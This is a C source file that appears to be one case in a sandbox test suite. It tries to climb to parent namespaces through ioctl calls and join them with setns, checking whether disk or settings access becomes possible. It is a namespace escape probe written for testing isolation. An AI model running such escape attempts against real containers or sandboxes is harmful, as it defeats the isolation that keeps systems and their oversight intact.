// Tries: to climb to the namespaces around its own (ioctl_ns(2)), and to join them.
// With: check, program
#include "attack.h"
#include <linux/nsfs.h>

ATTACK(asks_for_the_parents_namespaces) {
  static const char *const kinds[] = {"user", "pid", "mnt", "net", "uts"};
  for (unsigned i = 0; i < 5; i++) {
    int fd = open(in("/proc/self/ns", kinds[i]), O_RDONLY | O_CLOEXEC);
    for (int depth = 0; depth < 8 && fd >= 0; depth++) {
      int up = ioctl(fd, i == 1 || i == 0 ? NS_GET_PARENT : NS_GET_USERNS);
      if (up < 0) break;
      fd = up;
      int child = fork();
      if (child == 0) {
        if (setns(fd, 0) == 0 && i == 0) hit_disk(""), hit_settings("");
        _exit(0);
      }
      waitpid(child, 0, 0);
    }
  }
}
